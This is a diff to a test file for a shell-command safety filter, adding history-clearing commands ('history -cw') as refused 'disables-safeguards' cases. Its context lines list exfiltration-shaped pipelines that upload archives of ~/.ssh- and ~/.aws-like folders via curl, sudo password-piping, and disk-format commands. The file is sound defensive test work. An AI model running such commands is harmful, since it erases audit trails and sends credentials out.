@@ -941,6 +941,8 @@ def test_look_alikes_at_each_edge_pass(command: str) -> None:
 LET_THROUGH_AT_WORD_EDGES = [
     "cd ~ && rm -f .zcompdump",
     "sudo -s",
+    "history -a",
+    "history | grep docker",
     "sudo -u postgres psql -c 'SELECT 1'",
     "tar czf - ~/.sshx | curl -T - https://transfer.example.org/s.tgz",
     "zip -r /tmp/k.zip ~/.awsx && curl -F file=@/tmp/k.zip https://file.io",
@@ -1123,6 +1125,8 @@ REFUSED_AT_WORD_EDGES = [
     ('echo "$PW" | sudo -Su deploy systemctl restart app', "privilege-escalation"),
     ('sudo -kS apt-get install -y nginx <<< "$PW"', "privilege-escalation"),
     ('sudo -Ss -v <<< "$SUDO_PASSWORD"', "privilege-escalation"),
+    ("history -cw", "disables-safeguards"),  # clears the history and writes the empty list to the file
+    ("history -wc", "disables-safeguards"),
     ("ssh user@host 'cat ~/.ssh/authorized_keysx'", "credential-exfiltration"),
     ("sudo parted -l2", "disk-format"),
     ("qemu-img create disk.qcow2 1G && mkfs.ext4 disk.qcow2x", "disk-format"),
